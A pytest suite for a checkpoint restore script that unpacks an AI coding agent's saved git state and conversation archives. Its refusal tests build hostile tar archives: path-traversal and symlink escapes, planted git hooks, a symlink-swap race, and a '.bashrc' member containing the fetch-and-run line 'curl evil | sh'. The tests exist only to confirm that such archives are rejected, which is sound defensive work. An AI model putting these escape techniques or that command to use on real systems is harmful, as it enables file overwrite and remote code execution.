"""hangar/agent/restore.py run directly with the sandbox's interpreter on scratch git repos.

Each test builds a world under tmp_path: a bare ``remote`` with one commit, its clone ``repo``
(the restore target), a ``home`` and, beside them, a ``victim`` folder that no restore may
ever touch. Plans and archives are built here with tarfile, as a hostile checkpoint would be.
"""

from __future__ import annotations

import copy
import ctypes
import gzip
import io
import json
import os
import stat
import subprocess
import tarfile
import threading
import time
from dataclasses import dataclass
from pathlib import Path
from typing import cast

import pytest

from hangar.agent.restore import PARTS_VERIFIED, STEPS
from hangar.checkpoints import restore as control_plane
from tests import installed_scripts as scripts
from tests.conftest import GIT_IDENTITY, git

PROJECT = Path(__file__).resolve().parents[3]
SCRIPT = scripts.command("restore")  # the installed script and its modules, as sandboxes run it
MTIME = 1_600_000_000
VICTIM_MTIME = 1_500_000_000

Member = tuple[tarfile.TarInfo, bytes | None]
ABSENT = object()  # a plan field given this value is left out of the plan


@dataclass
class World:
    root: Path
    remote: Path
    repo: Path
    home: Path
    victim: Path

    @property
    def head(self) -> str:
        return git(self.repo, "rev-parse", "HEAD")


@pytest.fixture
def world(tmp_path: Path) -> World:
    remote, seed = tmp_path / "remote.git", tmp_path / "seed"
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(remote))
    git(tmp_path, "init", "-q", "-b", "main", str(seed))
    (seed / "README.md").write_text("# app\n")
    (seed / ".gitignore").write_text("*.log\n")
    (seed / "docs").mkdir()
    (seed / "docs" / "guide.md").write_text("guide\n")
    (seed / "pkg").mkdir()
    (seed / "pkg" / "keep.txt").write_text("keep\n")
    # A committed link out of the repo: git checks it out as it is, and restore must never
    # unpack anything through it.
    (seed / "outside").symlink_to("../victim")
    git(seed, "add", "-A")
    git(seed, "commit", "-q", "-m", "seed")
    git(seed, "push", "-q", str(remote), "main")
    repo = tmp_path / "repo"
    git(tmp_path, "clone", "-q", str(remote), str(repo))
    home = tmp_path / "home"
    home.mkdir()
    (tmp_path / "hangar-tmp").mkdir(mode=0o700)  # hangar's own: where a restore marks it began
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "secret.txt").write_text("do not touch\n")
    (victim / "secret.txt").chmod(0o640)
    os.utime(victim / "secret.txt", (VICTIM_MTIME, VICTIM_MTIME))
    victim.chmod(0o750)
    os.utime(victim, (VICTIM_MTIME, VICTIM_MTIME))
    return World(tmp_path, remote, repo, home, victim)


# Archives -------------------------------------------------------------------------------------


def _info(name: str, kind: bytes, mode: int, mtime: int = MTIME) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.mode, info.mtime = kind, mode, mtime
    return info


def file(name: str, data: bytes = b"data\n", mode: int = 0o644, mtime: int = MTIME) -> Member:
    info = _info(name, tarfile.REGTYPE, mode, mtime)
    info.size = len(data)
    return info, data


def folder(name: str, mode: int = 0o755, mtime: int = MTIME) -> Member:
    return _info(name, tarfile.DIRTYPE, mode, mtime), None


def link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> Member:
    info = _info(name, kind, 0o777)
    info.linkname = target
    return info, None


def special(name: str, kind: bytes) -> Member:
    info = _info(name, kind, 0o644)
    info.devmajor, info.devminor = 1, 3
    return info, None


def tar(members: list[Member]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for info, data in members:
            tf.addfile(info, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()


def tar_gz(members: list[Member]) -> tuple[bytes, str]:
    return gzip.compress(tar(members)), "gzip"


# Running the script ---------------------------------------------------------------------------


def plan_and_input(world: World, parts: dict[str, tuple[bytes, str]], **plan: object) -> bytes:
    full: dict[str, object] = {
        "repo": str(world.repo),
        "home": str(world.home),
        "tmp": str(world.root / "hangar-tmp"),
        "branch": "main",
        "head": world.head,
        "conversation_dirs": [".claude/projects"],
        "parts": [{"name": n, "size": len(d), "compression": c} for n, (d, c) in parts.items()],
    }
    full.update(plan)
    full = {key: value for key, value in full.items() if value is not ABSENT}
    body = b"".join(d for d, _ in parts.values())
    return json.dumps(full).encode() + b"\n" + body + PARTS_VERIFIED


def environment(world: World) -> dict[str, str]:
    return {**os.environ, **GIT_IDENTITY, "HOME": str(world.home), "GIT_CONFIG_NOSYSTEM": "1"}


def answer_of(stdout: bytes, returncode: int) -> dict[str, object]:
    lines = stdout.decode().splitlines()
    assert len(lines) == 1, stdout
    answer: dict[str, object] = json.loads(lines[0])
    assert returncode == (0 if answer["ok"] else 3), answer
    return answer


def restore(world: World, parts: dict[str, tuple[bytes, str]], **plan: object) -> dict[str, object]:
    proc = subprocess.run(
        SCRIPT,
        input=plan_and_input(world, parts, **plan),
        capture_output=True,
        cwd=PROJECT,
        env=environment(world),
        timeout=120,
    )
    return answer_of(proc.stdout, proc.returncode)


def snapshot(top: Path, *, times: bool) -> dict[str, tuple[object, ...]]:
    """Every path beneath ``top`` (itself included, .git left out) with its kind, mode, content
    or link target, and, when ``times``, its mtime."""
    out: dict[str, tuple[object, ...]] = {}
    for dirpath, dirnames, filenames in os.walk(top):
        dirnames[:] = [d for d in dirnames if d != ".git"]
        for name in [".", *dirnames, *filenames]:
            path = Path(dirpath, name)
            st = path.lstat()
            if stat.S_ISLNK(st.st_mode):
                body: object = os.readlink(path)
            elif stat.S_ISREG(st.st_mode):
                body = path.read_bytes()
            else:
                body = None
            entry = (stat.S_IFMT(st.st_mode), stat.S_IMODE(st.st_mode), body)
            out[str(path.relative_to(top))] = (*entry, st.st_mtime_ns) if times else entry
    return out


# The happy path -------------------------------------------------------------------------------


def checkpoint_of_a_session(world: World) -> tuple[Path, dict[str, tuple[bytes, str]]]:
    """A second clone where the agent worked: one unpushed commit, staged and unstaged edits,
    a staged new file, a force-added ignored file. Returns it and its git parts."""
    work = world.root / "work"
    git(world.root, "clone", "-q", str(world.remote), str(work))
    (work / "feature.py").write_text("def feature(): return 1\n")
    git(work, "add", "feature.py")
    git(work, "commit", "-q", "-m", "add feature")
    (work / "README.md").write_text("# app\nstaged line\n")
    (work / "added.txt").write_text("new and staged\n")
    (work / "debug.log").write_text("ignored, yet force-added\n")
    git(work, "add", "README.md", "added.txt")
    git(work, "add", "-f", "debug.log")
    (work / "README.md").write_text("# app\nstaged line\nunstaged line\n")
    (work / "docs" / "guide.md").write_text("guide, edited but not staged\n")
    git(work, "update-ref", "refs/hangar/checkpoint", "HEAD")
    git(work, "bundle", "create", "-q", str(world.root / "repo.bundle"),
        "refs/hangar/checkpoint", "--not", "origin/main")  # fmt: skip
    diff = ["--binary", "--no-ext-diff", "--no-color", "--no-renames"]
    staged = subprocess.run(["git", "-C", str(work), "diff", "--cached", *diff, "HEAD"],
                            capture_output=True, check=True).stdout  # fmt: skip
    wip = subprocess.run(["git", "-C", str(work), "diff", *diff, "HEAD"],
                         capture_output=True, check=True).stdout  # fmt: skip
    bundle = (world.root / "repo.bundle").read_bytes()
    parts = {"repo.bundle": (bundle, "none"), "staged.patch": (staged, "none"),
             "wip.patch": (wip, "none")}  # fmt: skip
    return work, parts


@pytest.mark.parametrize("fresh", [False, True])  # the repo is a fresh clone: the same either way
def test_a_checkpoint_restores_commits_index_working_tree_untracked_files_and_conversation(
    world: World, fresh: bool
) -> None:
    work, parts = checkpoint_of_a_session(world)
    untracked = [
        folder("notes", mode=0o750, mtime=MTIME + 1),
        file("notes/todo.txt", b"todo\n", mode=0o640, mtime=MTIME + 2),
        link("notes/latest", "todo.txt"),
        link("notes/readme", "../README.md"),  # leading .. that stays inside is fine
        link("guide", "docs/guide.md"),
        file("run.sh", b"#!/bin/sh\n", mode=0o755),
    ]
    conversation = [
        folder(".claude/projects"),
        folder(".claude/projects/-workspace-app", mode=0o700),
        file(".claude/projects/-workspace-app/conv.jsonl", b'{"role": "user"}\n', mode=0o600),
    ]
    parts["untracked.tar.gz"] = tar_gz(untracked)
    parts["agent.tar.gz"] = tar_gz(conversation)

    answer = restore(world, parts, head=git(work, "rev-parse", "HEAD"), fresh=fresh)

    seconds = answer.pop("seconds")
    assert answer == {"ok": True, "warnings": []}
    assert isinstance(seconds, dict) and list(seconds) == list(STEPS)  # every step, in order
    assert all(isinstance(s, float) and 0 <= s < 120 for s in seconds.values()), seconds
    repo = world.repo
    assert git(repo, "log", "-1", "--format=%s") == "add feature"
    assert git(repo, "rev-parse", "--abbrev-ref", "HEAD") == "main"
    for args in (["diff", "--cached", "--binary", "HEAD"], ["diff", "--binary", "HEAD"],
                 ["status", "--porcelain=v1", "--untracked-files=no"]):  # fmt: skip
        assert git(repo, *args) == git(work, *args), args
    assert "A  debug.log" in git(repo, "status", "--porcelain=v1").splitlines()
    assert (repo / "README.md").read_text() == "# app\nstaged line\nunstaged line\n"
    assert git(repo, "show", ":README.md") == "# app\nstaged line"

    notes = repo / "notes"
    assert stat.S_IMODE(notes.stat().st_mode) == 0o750 and notes.stat().st_mtime == MTIME + 1
    todo = (notes / "todo.txt").stat()
    assert (notes / "todo.txt").read_bytes() == b"todo\n"
    assert stat.S_IMODE(todo.st_mode) == 0o640 and todo.st_mtime == MTIME + 2
    assert stat.S_IMODE((repo / "run.sh").stat().st_mode) == 0o755
    assert os.readlink(notes / "latest") == "todo.txt"
    assert (notes / "latest").lstat().st_mtime == MTIME
    assert (notes / "readme").read_text() == (repo / "README.md").read_text()
    assert (repo / "guide").read_text() == "guide, edited but not staged\n"
    conv = world.home / ".claude/projects/-workspace-app/conv.jsonl"
    assert conv.read_bytes() == b'{"role": "user"}\n' and stat.S_IMODE(conv.stat().st_mode) == 0o600
    assert not [p for p in repo.rglob(".hangar-restore-*")]


@pytest.mark.parametrize("cut", ["no closing line", "half the closing line", "mid-part"])
def test_a_stream_that_ends_before_the_control_plane_vouched_for_every_part_changes_nothing(
    world: World, cut: str
) -> None:
    work, parts = checkpoint_of_a_session(world)
    parts["untracked.tar.gz"] = tar_gz([file("new.txt", b"new\n")])
    whole = plan_and_input(world, parts, head=git(work, "rev-parse", "HEAD"), fresh=True)
    short = {"no closing line": len(PARTS_VERIFIED), "half the closing line": 5,
             "mid-part": len(PARTS_VERIFIED) + 10}[cut]  # fmt: skip
    repo_before = snapshot(world.repo, times=True)
    home_before = snapshot(world.home, times=True)
    refs_before = git(world.repo, "show-ref")

    proc = subprocess.run(SCRIPT, input=whole[:-short], capture_output=True, cwd=PROJECT,
                          env=environment(world), timeout=120)  # fmt: skip

    answer = answer_of(proc.stdout, proc.returncode)
    assert (answer["ok"], answer["code"], answer["step"]) == (False, "restore_failed", "receive")
    assert snapshot(world.repo, times=True) == repo_before
    assert snapshot(world.home, times=True) == home_before
    assert git(world.repo, "show-ref") == refs_before


def test_the_sandbox_waits_for_the_very_closing_line_the_control_plane_sends() -> None:
    assert PARTS_VERIFIED == control_plane.PARTS_VERIFIED and PARTS_VERIFIED.endswith(b"\n")


def test_only_a_restore_into_a_tree_that_is_not_fresh_resets_and_cleans_it(world: World) -> None:
    work, parts = checkpoint_of_a_session(world)
    head = git(work, "rev-parse", "HEAD")
    (world.repo / "stray.txt").write_text("left by a setup\n")
    fresh = restore(world, parts, head=head, fresh=True)
    assert fresh["ok"] is True, fresh
    assert (world.repo / "stray.txt").exists()  # the plan's word: nothing was cleaned
    again = restore(world, parts, head=head, fresh=False)
    assert again["ok"] is True, again
    assert not (world.repo / "stray.txt").exists()
    assert git(world.repo, "diff", "HEAD") == git(work, "diff", "HEAD")


def test_a_restore_retried_in_the_same_sandbox_never_takes_the_tree_for_a_fresh_clone(
    world: World,
) -> None:
    # A restore that crashed half way left files of its own: its retry, told "fresh" again by
    # a plan made before the crash, must still reset and clean.
    work, parts = checkpoint_of_a_session(world)
    head = git(work, "rev-parse", "HEAD")
    assert restore(world, parts, head=head, fresh=True)["ok"] is True
    (world.repo / "left-by-the-first-try.txt").write_text("stale\n")
    again = restore(world, parts, head=head, fresh=True)
    assert again["ok"] is True, again
    assert not (world.repo / "left-by-the-first-try.txt").exists()
    assert git(world.repo, "diff", "HEAD") == git(work, "diff", "HEAD")


def test_a_tree_called_fresh_that_is_not_is_reset_and_cleaned_when_git_refuses_the_switch(
    world: World,
) -> None:
    work, parts = checkpoint_of_a_session(world)
    (world.repo / "feature.py").write_text("untracked, where the head has a file\n")
    (world.repo / "docs" / "guide.md").write_text("edited, and the head's patch edits it\n")
    answer = restore(world, parts, head=git(work, "rev-parse", "HEAD"), fresh=True)
    assert answer["ok"] is True, answer
    assert (world.repo / "feature.py").read_text() == "def feature(): return 1\n"
    for args in (["diff", "--cached", "--binary", "HEAD"], ["diff", "--binary", "HEAD"]):
        assert git(world.repo, *args) == git(work, *args), args


def zstd(data: bytes) -> tuple[bytes, str]:
    return subprocess.run(["zstd", "-q", "-c"], input=data, capture_output=True,
                          check=True).stdout, "zstd"  # fmt: skip


@pytest.mark.parametrize("compression", ["zstd", "gzip"])
def test_an_archive_of_zeros_past_the_cap_stops_as_it_is_received_and_changes_nothing(
    world: World, compression: str
) -> None:
    data = tar([file("zeros.bin", bytes(8 << 20))])
    part = zstd(data) if compression == "zstd" else (gzip.compress(data), "gzip")
    before = snapshot(world.repo, times=True)
    answer = restore(world, {"untracked.tar." + ("zst" if compression == "zstd" else "gz"): part},
                     max_bytes=1 << 20)  # fmt: skip
    assert (answer["ok"], answer["code"], answer["step"]) == (False, "restore_failed", "unpack")
    assert "past its cap" in str(answer["error"])
    assert snapshot(world.repo, times=True) == before


@pytest.mark.parametrize("compression", ["zstd", "gzip"])
def test_a_corrupt_archive_is_named_at_unpack_but_only_once_the_parts_were_vouched_for(
    world: World, compression: str
) -> None:
    data = tar([file("notes.txt", b"x" * 100_000)])
    packed, kind = zstd(data) if compression == "zstd" else (gzip.compress(data), "gzip")
    bad = packed[:40] + bytes(b ^ 0x5A for b in packed[40:80]) + packed[80:]
    parts = {"untracked.tar." + ("zst" if kind == "zstd" else "gz"): (bad, kind)}
    before = snapshot(world.repo, times=True)

    vouched = restore(world, parts)
    whole = plan_and_input(world, parts)
    cut = subprocess.run(SCRIPT, input=whole[: -len(PARTS_VERIFIED)], capture_output=True,
                         cwd=PROJECT, env=environment(world), timeout=120)  # fmt: skip

    assert (vouched["ok"], vouched["code"], vouched["step"]) == (False, "restore_failed", "unpack")
    assert str(vouched["error"]).startswith(compression)
    assert answer_of(cut.stdout, cut.returncode)["step"] == "receive"
    assert snapshot(world.repo, times=True) == before


def test_a_zstd_untracked_archive_restores(world: World) -> None:
    data = tar([file("notes/todo.txt", b"zstd\n", mode=0o600)])
    packed = subprocess.run(["zstd", "-q", "-c"], input=data, capture_output=True, check=True)
    answer = restore(world, {"untracked.tar.zst": (packed.stdout, "zstd")})
    answer.pop("seconds")
    assert answer == {"ok": True, "warnings": []}
    assert (world.repo / "notes/todo.txt").read_bytes() == b"zstd\n"
    assert stat.S_IMODE((world.repo / "notes/todo.txt").stat().st_mode) == 0o600


# Refusals -------------------------------------------------------------------------------------

VICTIM = "../victim"
UNTRACKED_ESCAPES: dict[str, tuple[list[Member], str]] = {
    "absolute path": ([file("/{victim}/absolute.txt")], "not a safe relative path"),
    "dot-dot path": ([file("notes/../../victim/dotdot.txt")], "not a safe relative path"),
    "hard link": ([link("hard", VICTIM + "/secret.txt", tarfile.LNKTYPE)], "hard link"),
    "character device": ([special("dev", tarfile.CHRTYPE)], "special file"),
    "fifo": ([special("fifo", tarfile.FIFOTYPE)], "special file"),
    "link that leads out": ([link("out", VICTIM)], "leads out"),
    "absolute link": ([link("out", "/{victim}")], "not relative"),
    "link chain": ([link("d1/s", ".."), link("t", "d1/s/../victim")], ".. after a folder"),
    "folder over an earlier link": ([link("q", "docs"), folder("q", mode=0o777)], "earlier link"),
    "file over an earlier link": ([link("q", "docs"), file("q")], "earlier link"),
    "member through an archive link": (
        [link("inner", "docs"), file("inner/escaped.txt")],
        "beneath the link 'inner'",
    ),
    "member through a committed link": ([file("outside/escaped.txt")], "link 'outside' on disk"),
    "folder at a committed link": ([folder("outside", mode=0o777)], "link 'outside' on disk"),
    "git hook": ([file(".git/hooks/post-checkout", b"#!/bin/sh\n", 0o755)], "inside .git"),
    "link into .git": ([link("hooks", ".git/hooks")], "inside .git"),
}


def _resolve(members: list[Member], world: World) -> list[Member]:
    """Copies of ``members`` with ``/{victim}`` made the victim's absolute path."""
    out = []
    for info, data in members:
        info = copy.copy(info)
        info.name = info.name.replace("/{victim}", str(world.victim))
        info.linkname = info.linkname.replace("/{victim}", str(world.victim))
        out.append((info, data))
    return out


def assert_nothing_changed(world: World, before: dict[str, object]) -> None:
    assert snapshot(world.victim, times=True) == before["victim"]
    assert snapshot(world.repo, times=False) == before["repo"]
    assert snapshot(world.home, times=False) == before["home"]
    assert sorted(os.listdir(world.root)) == before["root"]


def everything(world: World) -> dict[str, object]:
    return {
        "victim": snapshot(world.victim, times=True),
        "repo": snapshot(world.repo, times=False),
        "home": snapshot(world.home, times=False),
        "root": sorted(os.listdir(world.root)),
    }


@pytest.mark.parametrize("case", UNTRACKED_ESCAPES, ids=list(UNTRACKED_ESCAPES))
def test_an_untracked_archive_that_could_escape_or_reach_git_is_refused_and_nothing_is_written(
    world: World, case: str
) -> None:
    members, reason = UNTRACKED_ESCAPES[case]
    before = everything(world)
    hostile = [file("harmless.txt"), *_resolve(members, world)]
    agent = tar_gz([folder(".claude/projects"), file(".claude/projects/conv.jsonl")])

    answer = restore(world, {"untracked.tar.gz": tar_gz(hostile), "agent.tar.gz": agent})

    assert answer["ok"] is False and answer["code"] == "unsafe_archive", answer
    assert reason in str(answer["error"])
    assert_nothing_changed(world, before)


AGENT_ESCAPES: dict[str, tuple[list[Member], list[str] | None]] = {
    "shell profile": ([file(".bashrc", b"curl evil | sh\n")], [".claude/projects"]),
    "credentials beside the conversations": (
        [folder(".claude"), file(".claude/.credentials.json")],
        [".claude/projects"],
    ),
    "a file named like the conversation folder": ([file(".claude/projects")], [".claude/projects"]),
    "a link out of the conversation folders": (
        [folder(".claude/projects"), link(".claude/projects/x", "../../.bashrc")],
        [".claude/projects"],
    ),
    "a plan without conversation folders": ([file(".claude/projects/conv.jsonl")], None),
    "conversation folders that are not relative": ([file("etc/x")], ["/etc", "../x", "."]),
}


@pytest.mark.parametrize("case", AGENT_ESCAPES, ids=list(AGENT_ESCAPES))
def test_an_agent_archive_member_outside_the_conversation_folders_is_refused(
    world: World, case: str
) -> None:
    members, dirs = AGENT_ESCAPES[case]
    before = everything(world)
    hostile = tar_gz([folder(".claude/projects"), file(".claude/projects/ok.jsonl"), *members])
    parts = {"untracked.tar.gz": tar_gz([file("harmless.txt")]), "agent.tar.gz": hostile}

    answer = restore(world, parts, conversation_dirs=ABSENT if dirs is None else dirs)

    assert answer["ok"] is False and answer["code"] == "unsafe_archive", answer
    assert "outside the conversation folders" in str(answer["error"])
    assert_nothing_changed(world, before)


def test_a_file_member_where_a_folder_is_on_disk_fails_before_anything_is_unpacked(
    world: World,
) -> None:
    before = everything(world)
    answer = restore(world, {"untracked.tar.gz": tar_gz([file("harmless.txt"), file("docs")])})
    assert answer["ok"] is False and answer["code"] == "restore_failed", answer
    assert "folder on disk" in str(answer["error"])
    assert_nothing_changed(world, before)


def test_a_link_the_setup_left_inside_a_conversation_folder_gives_way_to_the_checkpoints_folder(
    world: World,
) -> None:
    # An environment's setup runs in every fresh sandbox before a restore: a link it leaves
    # where the conversation archive has a folder would otherwise refuse every restore.
    before = snapshot(world.victim, times=True)
    projects = world.home / ".claude" / "projects"
    projects.mkdir(parents=True)
    (projects / "-workspace-app").symlink_to(world.victim)
    conversation = [
        folder(".claude/projects"),
        folder(".claude/projects/-workspace-app"),
        file(".claude/projects/-workspace-app/conv.jsonl", b'{"role": "user"}\n'),
    ]

    answer = restore(world, {"agent.tar.gz": tar_gz(conversation)})

    assert answer["ok"] is True, answer
    warnings = cast(list[str], answer["warnings"])
    assert len(warnings) == 1 and "~/.claude/projects/-workspace-app" in warnings[0], warnings
    restored = projects / "-workspace-app"
    assert not restored.is_symlink() and restored.is_dir()
    assert (restored / "conv.jsonl").read_bytes() == b'{"role": "user"}\n'
    assert snapshot(world.victim, times=True) == before


# Races and git failures -----------------------------------------------------------------------

_libc = ctypes.CDLL(None, use_errno=True)


def exchange(a: Path, b: Path) -> None:
    """Swap two paths atomically (renameat2 RENAME_EXCHANGE): neither is ever missing."""
    at_fdcwd, rename_exchange = -100, 2
    if _libc.renameat2(at_fdcwd, bytes(a), at_fdcwd, bytes(b), rename_exchange) != 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err), str(a))


def test_a_folder_swapped_for_a_link_mid_restore_never_lets_a_write_out(world: World) -> None:
    """Another process keeps swapping the committed ``pkg`` folder with a link to the victim
    while 3,000 files are unpacked into it: whatever the answer, the victim is untouched."""
    members = [file("aaa-started.txt")]
    members += [file(f"pkg/sub{i % 10}/f{i:04d}.txt", b"x" * 64) for i in range(3000)]
    stdin = plan_and_input(world, {"untracked.tar.gz": tar_gz(members)})
    before = snapshot(world.victim, times=True)
    pkg, lnk = world.repo / "pkg", world.repo / "pkg.link"
    stop = threading.Event()
    swaps = 0

    def swap() -> None:
        nonlocal swaps
        while not stop.is_set():
            exchange(pkg, lnk)  # pkg is now the link, and the folder again on the next turn
            swaps += 1
            stop.wait(0.001)  # leave each state in place a moment, so the restore meets both

    proc = subprocess.Popen(
        SCRIPT,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        cwd=PROJECT,
        env=environment(world),
    )
    outputs: list[tuple[bytes, bytes]] = []
    feeder = threading.Thread(target=lambda: outputs.append(proc.communicate(stdin, timeout=120)))
    swapper = threading.Thread(target=swap)
    try:
        feeder.start()
        # Swap only once the git steps are over (git clean would remove the link, and a race
        # with git's own checkout is not what this test is about) and unpacking has begun.
        deadline = time.monotonic() + 60
        while not (world.repo / "aaa-started.txt").exists() and proc.poll() is None:
            assert time.monotonic() < deadline, "the restore never began unpacking"
            time.sleep(0.001)
        lnk.symlink_to(VICTIM)
        swapper.start()
        feeder.join(timeout=120)
        assert not feeder.is_alive()
    finally:
        stop.set()
        if swapper.is_alive():
            swapper.join(timeout=10)
        if proc.poll() is None:
            proc.kill()
    assert swaps > 0
    assert snapshot(world.victim, times=True) == before
    answer = answer_of(outputs[0][0], proc.returncode)
    assert answer["ok"] is True or answer["code"] in ("unsafe_archive", "restore_failed"), answer


def test_a_bundle_whose_prerequisite_is_missing_fails_with_gits_reason(world: World) -> None:
    work = world.root / "work"
    git(world.root, "clone", "-q", str(world.remote), str(work))
    for name in ("one", "two"):
        (work / name).write_text(name)
        git(work, "add", name)
        git(work, "commit", "-q", "-m", name)
    git(work, "update-ref", "refs/hangar/checkpoint", "HEAD")
    bundle = world.root / "repo.bundle"
    # "one" is the prerequisite, and the target repo has never seen it.
    git(work, "bundle", "create", "-q", str(bundle), "refs/hangar/checkpoint", "--not", "HEAD~1")

    answer = restore(world, {"repo.bundle": (bundle.read_bytes(), "none")},
                     head=git(work, "rev-parse", "HEAD"))  # fmt: skip

    assert answer["ok"] is False and answer["code"] == "restore_failed", answer
    assert answer["step"] == "bundle"
    assert "prerequisite" in str(answer["error"])
